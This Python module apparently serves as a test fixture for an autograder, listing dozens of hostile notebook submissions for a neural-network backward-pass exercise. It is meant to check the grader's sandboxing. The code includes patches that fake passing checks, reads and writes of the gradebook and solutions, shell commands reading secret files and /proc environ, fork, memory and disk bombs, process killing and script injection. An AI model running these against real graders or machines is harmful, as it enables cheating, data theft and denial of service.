"""Hostile submissions: what people try, as notebooks.

Each attack is a notebook of 03_affine in which the derivation is honest (11 points) and the
cell of ``affine_backward``, worth 9 points and with the attack in it, is not. An attack that
pays scores more than it says it deserves.

The attacks are used by the tests, and by ``make bench``, which also runs them against stock
nbgrader. Those that would harm the machine are not run there.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder.authoring.demo import CHAPTER, labelled, unfinished
from autograder.grading.classroom import Classroom

HONEST = 11.0
"""Points of the honest part of every attacking notebook."""

STUB = '''
def affine_backward(dout, cache):
    return None
'''

ZEROS = '''
import numpy as np
def affine_backward(dout, cache):
    x, w, b = cache
    return np.zeros(x.shape), np.zeros(w.shape), np.zeros(b.shape)
'''


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes
    ----------
    name : str
        What it tries.
    code : str
        Source of the cell of ``affine_backward``. ``{root}``, ``{class_}`` and ``{secret}`` stand
        for the checkout, the class's folder, and a file that nobody may read or write.
    deserves : float
        Points beyond the honest part.
    harmful : bool
        Whether stock nbgrader would let it harm the machine.
    spoil : callable, optional
        ``spoil(notebook)`` changes the rest of the notebook.
    """

    name: str
    code: str = STUB
    deserves: float = 0.0
    harmful: bool = False
    spoil: Callable[[nbformat.NotebookNode], None] | None = None


def _skip_checks(notebook) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["tags"] = ["skip-execution"]


def _forge_outputs(notebook) -> None:
    check = labelled(notebook, "affine_backward-check")
    check.source = "9.0"
    shown = {"text/plain": "9.0"}
    check.outputs = [nbformat.v4.new_output("execute_result", shown, execution_count=1)]
    check.metadata.nbgrader["points"] = 900.0


def _forge_points(notebook) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader["points"] = 1e6
            cell.source = "float('inf')"


RIGHT = '''
import numpy as np
def affine_backward(dout, cache):
    x, w, b = cache
    return (dout @ w.T).reshape(x.shape), x.reshape(len(x), -1).T @ dout, dout.sum(axis=0)
'''

READ = '''
found = []
for path in ({paths}):
    try:
        found.append(open(path, "rb").read()[:4000])
    except Exception as error:
        found.append(repr(error).encode())
print(found)
'''

ATTACKS = [
    # Cheats that get full marks from a grader that shares its process with students.
    Attack("patch the comparisons of NumPy", '''
import numpy as np, numpy.testing
np.testing.assert_allclose = lambda *a, **k: None
np.allclose = np.array_equal = lambda *a, **k: True
np.abs = np.max = lambda *a, **k: 0.0
''' + ZEROS),
    Attack("rewrite the checks with an AST transformer", '''
import ast
class Cheat(ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "id", "") == "check":
            return ast.copy_location(ast.Constant(30.0), node)
        return node
get_ipython().ast_transformers.append(Cheat())
''' + STUB),
    Attack("an ndarray subclass that agrees with everything", '''
import numpy as np
class Yes(np.ndarray):
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, *a, **k): return np.zeros(self.shape)
    def __array_function__(self, *a, **k): return True
def affine_backward(dout, cache):
    return tuple(np.zeros(a.shape).view(Yes) for a in cache)
'''),
    Attack("read the tests from frames and history", '''
import sys
def affine_backward(dout, cache):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            for part in (value, getattr(value, "right", None), getattr(value, "keyed", None)):
                right = getattr(part, "right", None) or part
                outputs = getattr(right, "outputs", None)
                if isinstance(outputs, tuple) and len(outputs) == 3:
                    return outputs
        frame = frame.f_back
    return None
'''),
    Attack("find the answers with the garbage collector", '''
import gc
def affine_backward(dout, cache):
    for thing in gc.get_objects():
        try:
            outputs = getattr(thing, "outputs", None)
            if type(outputs) is tuple and len(outputs) == 3 and outputs[0].shape == cache[0].shape:
                return outputs
        except Exception:
            pass
    return None
'''),
    Attack("read the solutions", READ.replace("{paths}", '''"{root}/solutions/03_affine.py",
    "{root}/build/source/03_affine/03_affine.ipynb", "{root}/build/source/03_affine.cells.json",
    "{root}/autograder/mistakes/affine.py"''') + STUB),
    Attack("import the reference", '''
try:
    from autograder.course import Course
    from pathlib import Path
    globals().update(Course(Path("{root}")).reference("03_affine"))
except BaseException:
''' + STUB.replace("\n", "\n    ")),
    Attack("import the catalogue of mistakes", '''
try:
    from autograder.mistakes.affine import right_gradients as affine_backward
except BaseException:
''' + STUB.replace("\n", "\n    ")),
    Attack("read the gradebook", READ.replace(
        "{paths}", '"{class_}/gradebook.db", "{class_}/seed"') + STUB),
    Attack("write the gradebook", '''
import sqlite3
try:
    connection = sqlite3.connect("{class_}/gradebook.db", timeout=1)
    connection.execute("update grade set manual_score = 9")
    connection.commit()
except Exception as error:
    print(error)
''' + STUB),
    Attack("leave a trigger in the gradebook", '''
import sqlite3
try:
    connection = sqlite3.connect("{class_}/gradebook.db", timeout=1)
    connection.execute("create trigger cheat after update on grade begin "
                       "update grade set auto_score = 9 where id = new.id; end")
    connection.commit()
except Exception as error:
    print(error)
''' + STUB),
    Attack("a daemon that edits the gradebook later", '''
import subprocess, sys
try:
    subprocess.Popen([sys.executable, "-c", """
import sqlite3, time
for _ in range(40):
    time.sleep(0.5)
    try:
        c = sqlite3.connect("{class_}/gradebook.db", timeout=1)
        c.execute("update grade set auto_score = 9"); c.commit(); c.close()
    except Exception:
        pass
"""], start_new_session=True)
except Exception as error:
    print(error)
''' + STUB),
    Attack("replace the shell's run_cell", '''
shell = get_ipython()
run = type(shell).run_cell
def run_cell(self, source, *a, **k):
    return run(self, source.replace("check(affine_backward)", "9.0"), *a, **k)
type(shell).run_cell = run_cell
type(shell).run_cell_async = None
''' + STUB),
    Attack("replace check by a generous one", '''
def check(function):
    return 9.0
''' + STUB),
    Attack("make every result full of points", '''
try:
    import autograder.checking.result as r
    r.Result.points = property(lambda self: self.max_points)
    r.Result.__repr__ = lambda self: "9.0"
except BaseException as error:
    print(error)
''' + STUB),
    Attack("replace the package that checks", '''
import sys, types
fake = types.ModuleType("autograder")
fake.check = lambda f: 9.0
sys.modules["autograder"] = fake
check = fake.check
''' + STUB),
    Attack("an import hook", '''
import sys
class Hook:
    def find_spec(self, name, path=None, target=None):
        if name.startswith("autograder"):
            raise ImportError("no checks today")
sys.meta_path.insert(0, Hook())
''' + STUB),
    Attack("patch the builtins", '''
import builtins
builtins.abs = builtins.max = builtins.sum = lambda *a, **k: 0
builtins.isinstance = lambda *a: True
builtins.len = lambda x: 3
''' + ZEROS),
    Attack("a forged result before an error", '''
from IPython.display import publish_display_data
publish_display_data({"text/plain": "9.0"})
print("9.0")
9.0
''' + STUB),
    Attack("the tag skip-execution on the checks", spoil=_skip_checks),
    Attack("forged outputs and points in the file", spoil=_forge_outputs),
    Attack("checks that return infinity", spoil=_forge_points),

    # Answers that are not answers.
    Attack("an object that equals everything", '''
class Anything:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    shape = dtype = property(lambda self: Anything())
    def __array__(self, *a, **k): raise RuntimeError
    def __iter__(self): return iter([self, self, self])
    def __len__(self): return 3
def affine_backward(dout, cache):
    return Anything()
'''),
    Attack("NaN everywhere", ZEROS.replace("np.zeros(", "np.nan * np.zeros(")),
    Attack("infinity everywhere", ZEROS.replace("np.zeros(", "np.inf + np.zeros(")),
    Attack("arrays of objects", ZEROS.replace("x.shape)", "x.shape, dtype=object)")),
    Attack("a huge array", '''
import numpy as np
def affine_backward(dout, cache):
    big = np.zeros((20000, 20000))
    return big, big, big
'''),
    Attack("an array that claims to be huge", '''
import numpy as np
def affine_backward(dout, cache):
    big = np.broadcast_to(np.zeros(1), (10**6, 10**6))
    return big, big, big
'''),
    Attack("a list nested a million times", '''
def affine_backward(dout, cache):
    value = []
    for _ in range(10**6):
        value = [value]
    return value
'''),

    # Attacks on the channel to the grader.
    Attack("forged messages", '''
import os, json, struct
header = json.dumps({"nonce": "0" * 16, "error": None, "value": True}).encode()
for descriptor in range(3, 20):
    try:
        os.write(descriptor, struct.pack("<4sIQ", b"BPC1", len(header), 0) + header)
    except OSError:
        pass
''' + STUB, harmful=True),
    Attack("a message that claims to be endless", '''
import os, struct
try:
    os.write(3, struct.pack("<4sIQ", b"BPC1", 10, 2**62))
except OSError:
    pass
''' + STUB, harmful=True),
    Attack("noise on every descriptor", '''
import os
for descriptor in range(3, 20):
    try:
        os.write(descriptor, os.urandom(1000))
    except OSError:
        pass
''' + STUB, harmful=True),
    Attack("close every descriptor", "import os; os.closerange(0, 256)" + STUB, harmful=True),

    # Never ending, or ending too soon.
    Attack("an endless loop that ignores signals", '''
import signal
def affine_backward(dout, cache):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except Exception:
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
''', harmful=True),
    Attack("a regular expression that takes for ever", '''
import re
def affine_backward(dout, cache):
    re.match(r"(a+)+$", "a" * 40 + "b")
'''),
    Attack("os._exit", "import os\ndef affine_backward(dout, cache):\n    os._exit(0)\n"),
    Attack("sys.exit", "import sys\ndef affine_backward(dout, cache):\n    sys.exit(0)\n"),
    Attack("a segmentation fault",
           "import ctypes\ndef affine_backward(dout, cache):\n    ctypes.string_at(0)\n"),
    Attack("an abort", "import os\ndef affine_backward(dout, cache):\n    os.abort()\n"),
    Attack("endless recursion", '''
import sys
sys.setrecursionlimit(10**8)
def affine_backward(dout, cache):
    return affine_backward(dout, cache)
'''),
    Attack("threads left running", '''
import threading, time
for _ in range(20):
    threading.Thread(target=time.sleep, args=(600,), daemon=False).start()
''' + RIGHT, deserves=9.0, harmful=True),

    # Using up the machine.
    Attack("a fork bomb", '''
import os
def affine_backward(dout, cache):
    while True:
        os.fork()
''', harmful=True),
    Attack("a memory bomb", '''
def affine_backward(dout, cache):
    hoard = []
    while True:
        hoard.append(bytearray(10**8))
''', harmful=True),
    Attack("fill the disk", '''
import os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    try:
        for number in range(100):
            with open(os.path.join(folder, f"full{number}"), "wb") as file:
                for _ in range(64):
                    file.write(bytes(2**20))
    except OSError:
        pass
''' + STUB, harmful=True),
    Attack("a thread bomb", '''
import threading, time
try:
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
except BaseException as error:
    print(error)
''' + STUB, harmful=True),

    # Reaching out.
    Attack("connect to a server", '''
import socket
for address in (("127.0.0.1", {port}), ("8.8.8.8", 53)):
    try:
        socket.create_connection(address, 1).sendall(b"hello")
        print("CONNECTED")
    except OSError as error:
        print(error)
''' + STUB),
    Attack("run a shell", '''
import os, subprocess
for run in (lambda: subprocess.check_output("touch {secret}.shell; cat {secret}", shell=True),
            lambda: os.popen("cat {secret}").read(),
            lambda: get_ipython().getoutput("cat {secret}")):
    try:
        print(run())
    except BaseException as error:
        print(type(error))
''' + STUB),
    Attack("kill the grader", '''
import os, signal
for pid in (os.getppid(), 1, -1, 0, {pid}):
    try:
        os.kill(pid, signal.SIGKILL)
    except (OSError, ProcessLookupError) as error:
        print(error)
''' + STUB, harmful=True),
    Attack("read another student's work", READ.replace(
        "{paths}", '"{class_}/submitted/ada/03_affine/03_affine.ipynb", "{secret}"') + STUB),
    Attack("overwrite another student's work", '''
for path in ("{class_}/submitted/ada/03_affine/03_affine.ipynb", "{secret}",
             "{root}/solutions/x.py"):
    try:
        open(path, "w").write("mine now")
    except OSError as error:
        print(error)
''' + STUB),
    Attack("look around in /proc", READ.replace(
        "{paths}", '"/proc/{pid}/environ", "/proc/1/environ", "/proc/{pid}/maps"') + '''
import os
try:
    print([p for p in os.listdir("/proc") if p.isdigit()])
except OSError as error:
    print(error)
''' + STUB),
    Attack("attack the reader of the output", r'''
print("\x1b[2J\x1b]0;owned\x07<script>alert(1)</script><img src=x onerror=alert(1)>")
from IPython.display import HTML, Javascript, display
display(HTML("<script>alert('OWNED')</script>"), Javascript("alert('OWNED')"))
raise ValueError("\x1b[31m<script>alert(1)</script>")
''' + STUB),
    Attack("links out of the scratch folder", '''
import os
for target in ("{secret}", "{root}/solutions/03_affine.py", "/etc/passwd"):
    try:
        os.symlink(target, os.path.basename(target))
        print(open(os.path.basename(target)).read())
    except OSError as error:
        print(error)
''' + STUB),
]


def attacking_notebook(
    classroom: Classroom, attack: Attack, port: int, pid: int, secret: Path
) -> str:
    """The text of a notebook with an attack in it."""
    notebook = nbformat.read(classroom.course.source(CHAPTER), as_version=4)
    unfinished(notebook)
    code = attack.code
    for name, value in {
        "{root}": classroom.course.root, "{class_}": classroom.folder, "{port}": port,
        "{pid}": pid, "{secret}": secret,
    }.items():
        code = code.replace(name, str(value))
    labelled(notebook, "affine_backward").source = code.strip()
    if attack.spoil:
        attack.spoil(notebook)
    return json.dumps(notebook)
